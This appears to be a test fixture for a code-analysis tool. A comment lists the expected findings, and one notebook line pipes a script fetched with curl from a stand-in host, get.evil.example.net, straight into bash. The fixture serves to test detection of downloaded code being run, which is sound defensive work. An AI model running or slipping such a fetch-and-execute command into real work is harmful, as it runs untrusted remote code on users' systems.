# expect: dynamic_exec_downloaded, http_client(host=get.evil.example.net allowed=false), subprocess
!curl -fsSL https://get.evil.example.net/install.sh | bash
